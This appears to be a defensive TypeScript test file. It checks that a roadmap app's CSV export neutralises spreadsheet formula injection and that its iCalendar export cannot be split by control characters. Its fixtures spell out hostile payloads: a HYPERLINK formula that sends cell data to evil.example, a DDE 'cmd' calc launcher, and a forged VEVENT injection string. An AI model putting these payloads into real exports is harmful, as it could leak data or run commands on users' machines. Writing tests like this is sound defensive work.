import { parse } from 'csv-parse/sync';
import { roadmapCsv, roadmapIcs } from '../../../../bot/src/features/roadmap/export';
import type { RoadmapArea, RoadmapItem } from '../../../../bot/src/api/roadmap-contract';
import { sampleItem } from './fixtures';

/** Cells a spreadsheet program would run as a formula (OWASP CSV injection). */
const FORMULA = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
/** A cell that is a plain (possibly negative) number: a spreadsheet reads it as a number, never as a formula. */
const NUMBER = /^-?\d+(\.\d+)?$/;
const hostile = ['=HYPERLINK("https://evil.example/?"&A1,"Klick")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\tTab', '\rCR'];

const item = (n: number, over: Partial<RoadmapItem> = {}): RoadmapItem => ({
  ...sampleItem(), id: `item-${n}`, version: 1, etag: 'e', example: false, from: '2025-01-01', to: '2025-06-30', halfYears: ['2025-H1'], decisionNeeded: true,
  updatedAt: '2025-01-01T00:00:00.000Z', updatedBy: 'Ada', createdAt: '2025-01-01T00:00:00.000Z', createdBy: 'Ada', ...over,
}) as RoadmapItem;
const areas: RoadmapArea[] = [{ id: 'buergerservice', de: 'Bürgerservice', en: 'Citizen services', kind: 'department' }];

describe('roadmap exports: what leaves the app is safe', () => {
  it('trust 17: no roadmap CSV cell starts with a formula character unescaped; numbers stay numbers', () => {
    const items = hostile.map((t, n) => item(n, {
      title: t, owner: t, description: t,
      investment: { oneOff: -48_000, yearly: 6_000, funding: 'own-budget' },
    }));
    const rows: string[][] = parse(roadmapCsv(items, areas, 'de'), { bom: true, relax_column_count: true });
    const bad = rows.flat().filter((c) => FORMULA.test(c) && !NUMBER.test(c));
    const oneOff = rows[0].indexOf('Einmalig (EUR)');
    expect({ bad, oneOff: rows.slice(1).map((r) => r[oneOff]) }).toEqual({ bad: [], oneOff: hostile.map(() => '-48000') });
    // The hostile text is still there, only made inert with a leading apostrophe.
    expect(rows[1][1]).toBe(`'${hostile[0]}`);
  });

  it('trust 17: a control character in a title or description never splits an iCalendar event', () => {
    const evil = 'Pilot\rEND:VEVENT\rBEGIN:VEVENT\rSUMMARY:gefälscht\u0000\u0007\u001b';
    const items = [item(1, {
      title: evil, description: `${evil}\r\nzweite Zeile\ndritte`,
      milestones: [{ id: 'm1', title: evil, date: '2025-03-01', done: false }],
      decisions: [{ id: 'd1', title: evil, body: 'council', due: '2025-04-01', state: 'open', note: evil }],
    })];
    const ics = roadmapIcs(items, 'de', 'digipuls.example.org');
    // Every line ends in CRLF; no other C0 control character (besides the fold's space/tab) remains.
    const controls = [...ics.replace(/\r\n/g, '')].filter((c) => c < ' ' || c === '\x7f').map((c) => c.charCodeAt(0));
    // Some readers break lines at a bare CR or LF too: read it as they do.
    const unfolded = ics.replace(/\r\n[ \t]/g, '').split(/\r\n|\r|\n/);
    expect({
      controls,
      begins: unfolded.filter((l) => l === 'BEGIN:VEVENT').length,
      ends: unfolded.filter((l) => l === 'END:VEVENT').length,
      summaries: unfolded.filter((l) => l.startsWith('SUMMARY')).length,
    }).toEqual({ controls: [], begins: 2, ends: 2, summaries: 2 });
    // Line breaks in a description survive as the escaped \n, as RFC 5545 wants.
    expect(unfolded.find((l) => l.startsWith('DESCRIPTION') && l.includes('zweite'))).toContain('\\nzweite Zeile\\ndritte');
  });
});
